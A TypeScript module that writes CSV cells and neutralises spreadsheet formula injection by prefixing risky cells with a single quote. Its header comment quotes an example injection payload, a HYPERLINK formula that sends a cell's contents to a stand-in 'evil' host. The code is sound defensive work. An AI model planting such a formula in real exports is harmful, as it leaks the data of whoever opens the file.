// One CSV cell (RFC 4180) of an exported value, safe to open in a spreadsheet.
//
// Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some,
// after a leading tab or carriage return) as a formula, so a catalog value such as
// `=HYPERLINK("http://evil/?"&A1)` would run on the machine of whoever opens the export. Such a
// cell is prefixed with a single quote (OWASP's advice), which spreadsheets show as text. The cost:
// a negative number reads back as `'-5`; the JSON formats keep values exact.

const FORMULA_START = /^[=+\-@\t\r]/;

/** A value as cell text: null and missing empty, scalars as text, objects and arrays as JSON. */
export function cellText(value: unknown): string {
  if (value === undefined || value === null) return '';
  if (typeof value === 'string') return value;
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  return JSON.stringify(value);
}

/** Text made inert for spreadsheets (see above). */
export function neutralise(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** RFC 4180: quoted when it holds a quote, a comma or a line break; quotes doubled. */
export function quoteCell(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record: its cells, neutralised and quoted, joined by commas, ended by CRLF. */
export function csvLine(values: unknown[]): string {
  return `${values.map((v) => quoteCell(neutralise(cellText(v)))).join(',')}\r\n`;
}
